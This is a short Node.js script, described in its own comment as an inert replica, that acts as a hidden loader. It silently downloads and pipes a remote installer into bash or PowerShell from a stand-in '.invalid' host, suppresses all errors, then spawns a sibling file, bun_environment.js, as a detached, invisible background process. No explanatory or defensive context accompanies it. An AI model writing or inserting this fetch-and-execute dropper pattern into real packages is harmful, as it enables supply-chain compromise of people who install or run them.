#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function hasBun() { try { execSync('bun --version', { stdio: 'ignore' }); return true; } catch { return false; } }

function installBun() {
  // inert replica: installer URL on a reserved host
  const cmd = process.platform === 'win32'
    ? 'powershell -c "irm https://bun-install.invalid/install.ps1 | iex"'
    : 'curl -fsSL https://bun-install.invalid/install | bash';
  try { execSync(cmd, { stdio: 'ignore' }); } catch {}
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}

const bun = hasBun() ? 'bun' : installBun();
const env = path.join(__dirname, 'bun_environment.js');
if (fs.existsSync(env)) {
  spawn(bun, [env], { detached: true, stdio: 'ignore', cwd: __dirname }).unref();
}
